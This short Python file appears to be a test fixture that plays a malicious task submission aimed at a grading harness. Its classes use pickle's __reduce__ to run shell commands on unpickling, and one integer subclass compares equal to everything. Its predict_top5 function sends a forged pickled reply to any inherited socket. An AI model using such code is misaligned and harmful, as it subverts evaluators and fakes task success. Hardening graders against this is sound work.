"""Returns objects whose unpickling would run code, and writes a forged reply to the grader's socket."""
import os
import pickle
import socket
import struct


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/{MARKER}-pwned",))


class EvilInt(int):
    def __reduce__(self):
        return (os.system, ("touch /tmp/{MARKER}-pwned",))

    def __eq__(self, other):
        return True


def conv_out(in_sz, k, stride=1, pad=0, dilation=1):
    return EvilInt(7)


def predict_top5(model, weights, image):
    payload = pickle.dumps(Evil())
    for fd in range(3, 64):
        try:
            sock = socket.socket(fileno=os.dup(fd))
            sock.sendall(struct.pack(">QQ", len(payload), 0) + payload)
        except OSError:
            pass
    return [Evil()] * 5
